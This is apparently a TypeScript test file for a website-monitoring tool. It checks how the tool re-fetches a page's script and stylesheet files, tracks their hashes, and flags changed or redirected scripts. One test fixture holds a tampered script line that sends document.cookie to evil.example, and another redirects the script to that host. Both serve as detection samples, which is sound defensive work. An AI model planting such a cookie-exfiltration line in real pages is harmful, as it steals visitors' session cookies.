import assert from 'node:assert/strict'
import { hash } from 'node:crypto'
import { test } from 'node:test'
import { GOOD_PAGE, home, HOST, NOW } from '../../../test/support/example-visit.ts'
import {
  DAY_OF_WAITS,
  FIRST_WAITS,
  knownAfter,
  NOTHING_KNOWN,
} from '../../../test/support/known-page.ts'
import type { Observation, PageFile } from '../../core/observation.ts'
import { addMs, HOUR, MINUTE, type Time, toMs } from '../../core/time.ts'
import { DEFAULT_POLICY } from './checks/index.ts'
import { judge, toJudge } from './judging.ts'
import { duePageFiles, isBrowsersTurn } from './page-files.ts'
import type { SiteWatch } from './store/watch.ts'
import { watchedPage, type Watching } from './watched.ts'

const APP = `https://${HOST}/app.js`
const SHEET = `https://${HOST}/style.css`
const CODE = 'document.querySelector("#menu").hidden = false'
const STYLE = '.menu { display: flex }'

/** What came of a file; its bytes where it is another one than `before`. */
function file(url: string, text: string | null, more: Partial<PageFile> = {}): Observation {
  const digest = text === null ? null : hash('sha256', text)
  const bytes = text === null ? undefined : Buffer.from(text)
  return {
    kind: 'page.file',
    host: HOST,
    ip: '192.0.2.10',
    port: 443,
    at: NOW,
    durationMs: 1,
    error: null,
    sha256: digest,
    url,
    ended: url,
    status: text === null ? 304 : 200,
    digest,
    length: bytes?.length ?? 0,
    isAnother: false,
    etag: '"1"',
    modified: null,
    ...more,
    ...(bytes && { bytes }),
  }
}

class Page {
  known: Watching = NOTHING_KNOWN
  now: Time = NOW

  look(afterMs: number, ...files: Observation[]) {
    this.now = addMs(this.now, afterMs)
    const site = { host: HOST, path: '/', baseline: null, policy: DEFAULT_POLICY }
    const seen = [home({}, GOOD_PAGE), ...files.map((one) => ({ ...one, at: this.now }))]
    const { watched } = judge(toJudge(seen, site, this.now, this.known))
    assert.ok(watched)
    watchedPage.parse(watched)
    this.known = knownAfter(this.known, watched)
    return watched
  }

  asked(waiting: SiteWatch['sightings']['waiting'] = []) {
    const { last } = this.known
    assert.ok(last)
    return duePageFiles({ last, sightings: { looksMs: [], waiting } }, this.now)
  }

  learned(): this {
    this.look(MINUTE)
    this.look(MINUTE, file(APP, CODE), file(SHEET, STYLE))
    for (const wait of [...FIRST_WAITS, ...DAY_OF_WAITS]) this.look(wait)
    return this
  }
}

const codes = ({ items }: ReturnType<Page['look']>) =>
  items.map(({ level, why }) => `${level} ${why.code}`)

test('files of a page are asked for by the visit after the one that found them, then hourly with their marks', () => {
  const page = new Page()
  page.look(MINUTE)
  const unknown = { sha256: null, etag: null, modified: null }
  assert.deepEqual(page.asked(), [
    { url: SHEET, ...unknown },
    { url: APP, ...unknown },
  ])
  page.look(MINUTE, file(APP, CODE), file(SHEET, STYLE, { etag: null }))
  assert.deepEqual(page.asked(), [])
  page.look(59 * MINUTE)
  assert.deepEqual(page.asked(), [])
  page.look(MINUTE)
  assert.deepEqual(page.asked(), [
    { url: SHEET, sha256: hash('sha256', STYLE), etag: null, modified: null },
    { url: APP, sha256: hash('sha256', CODE), etag: '"1"', modified: null },
  ])
  page.look(MINUTE, file(APP, null), file(SHEET, null))
  assert.deepEqual(page.asked(), [])
  // While a change is confirmed all are asked for.
  const atMs = [toMs(page.now)]
  const sighting = { key: 'x', isNew: true, isOpen: false, atMs }
  assert.equal(page.asked([sighting]).length, 2)
  assert.equal(page.asked([{ ...sighting, isOpen: true }]).length, 0)
})

test('a script that changed under its address is found on a page whose bytes are the same, and stays told', () => {
  const page = new Page().learned()
  assert.equal(page.known.last?.stage, 'full')
  assert.deepEqual(codes(page.look(MINUTE)), [])
  const evil = `${CODE}; fetch("https://evil.example/?" + document.cookie)`
  assert.deepEqual(codes(page.look(MINUTE, file(APP, evil))), ['H own_file_reaches'])
  assert.deepEqual(codes(page.look(MINUTE, file(APP, null))), ['H own_file_reaches'])
  assert.deepEqual(codes(page.look(5 * MINUTE)), ['H own_file_reaches'])
  assert.deepEqual(codes(page.look(MINUTE, file(APP, CODE))), [])
})

test('a script that another site answers for runs what that site sends', () => {
  const page = new Page().learned()
  const ended = 'https://evil.example/app.js'
  for (const code of [CODE, `${CODE};`])
    assert.deepEqual(codes(page.look(MINUTE, file(APP, code, { ended }))), ['H own_file_reaches'])
})

test('what does not come, or is gone, says nothing of the file', () => {
  const page = new Page().learned()
  const error = { stage: 'receive', code: 'timeout', message: 'No answer came in time.' } as const
  assert.deepEqual(codes(page.look(HOUR, file(APP, null, { error, status: null }))), [])
  assert.equal(page.known.last?.files?.find(({ url }) => url === APP)?.etag, '"1"')
  assert.deepEqual(codes(page.look(HOUR, file(APP, null, { status: 404 }))), [])
  assert.equal(page.known.last?.files?.find(({ url }) => url === APP)?.sha256, null)
})

test('a hash that the profile does not know is no knowledge: the file is asked for whole', () => {
  const page = new Page().learned()
  const { last } = page.known
  page.known = { ...page.known, profile: null, last: last && { ...last, circumstances: '' } }
  page.look(HOUR, file(APP, null))
  assert.deepEqual(
    page.asked().map(({ url, sha256 }) => [url, sha256]),
    [
      [SHEET, null],
      [APP, null],
    ],
  )
})

test('one look in six comes as a browser, three in a row, so that what it sees can be confirmed', () => {
  const turns = Array.from({ length: 36 }, (_, version) => (isBrowsersTurn(version) ? 'b' : '.'))
  assert.equal(turns.join(''), `${'.'.repeat(15)}bbb`.repeat(2))
})
